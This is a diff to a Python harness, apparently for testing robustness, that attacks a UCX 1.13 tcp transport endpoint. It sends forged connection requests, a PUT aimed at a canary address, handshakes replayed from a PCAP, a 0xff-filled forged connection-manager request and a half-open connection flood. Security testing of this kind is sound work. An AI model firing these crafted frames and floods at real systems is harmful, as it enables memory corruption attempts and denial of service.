@@ -12,7 +12,9 @@ record carrying a real peer's public key (also taken from PCAP: UCP
 exchanges it in its worker address), and byte-exact frames of UCX 1.13's
 tcp transport (connection request with its magic number, then a PUT
 request aimed at CANARY_ADDR, the victim's canary; then headers that UCX's
-tcp asserts on). Prints one line per attack and what the victim did with
+tcp asserts on), and a client's connection request as UCX's tcp
+connection manager reads it (length, status, then what it hands to UCP).
+Prints one line per attack and what the victim did with
 it: "closed" (it hung up on us), "open" (it kept the connection), or
 "refused" (no connection at all). ONLY (comma separated names) runs just
 those attacks. The verdict is the caller's: the victim
@@ -98,11 +100,21 @@ def pcap_payloads(path):
 
 
 def first_bytes_to(payloads, ports):
-    """the first payload an honest peer sent to one of `ports`"""
+    """the first payload an honest peer sent to each of `ports` that got
+    one: {port: bytes}"""
+    first = {}
     for sport, dport, payload in payloads:
-        if dport in ports:
-            return dport, payload[:256]
-    return None, None
+        if dport in ports and dport not in first:
+            first[dport] = payload[:256]
+    return first
+
+
+def sockcm_request(data):
+    """what UCX's tcp connection manager (tcp_sockcm) reads first:
+    uct_tcp_sockcm_priv_data_hdr_t (size_t length, u8 status, padding),
+    then that much private data, which it hands to UCP as a client's
+    connection request (src/uct/tcp/tcp_sockcm_ep.c, 1.13.1)"""
+    return struct.pack("<QB", len(data), 0) + bytes(7) + data
 
 
 def peer_public_key(payloads):
@@ -170,10 +182,11 @@ def main():
     host, ports, canary, pcap = sys.argv[1], sys.argv[2], int(sys.argv[3], 0), sys.argv[4]
     ports = [int(p) for p in ports.split(",") if p]
     payloads = pcap_payloads(pcap)
-    replay_port, replay = first_bytes_to(payloads, ports)
+    replays = first_bytes_to(payloads, ports)
     version, public_key = peer_public_key(payloads)
     print(f"attacker: ports {ports}, canary {canary:#x}, wire version {version}, "
-          f"replay of {len(replay) if replay else 0} bytes to port {replay_port}")
+          f"first bytes of honest connections to replay: " +
+          ", ".join(f"{len(b)} to port {p}" for p, b in replays.items()))
     me = "10.77.0.2"
     for port in ports:
         attack(host, port, "tcp_put_to_canary", tcp_conn_req(me, port) +
@@ -188,8 +201,9 @@ def main():
                tcp_am(0, crypt_hello(public_key, 2)))
         attack(host, port, "tcp_conn_req_bad_length", struct.pack("<Q", TCP_MAGIC) +
                tcp_am(TCP_CM_AM_ID, struct.pack("<iBQ", TCP_CM_CONN_REQ, 0, 1)))
-        if replay is not None:
-            attack(host, replay_port, "replayed_handshake", replay, hold=1.0)
+        attack(host, port, "forged_connection_request", sockcm_request(b"\xff" * 300))
+        if port in replays:
+            attack(host, port, "replayed_handshake", replays[port], hold=1.0)
         half_open_flood(host, port)
     sys.stdout.flush()
 
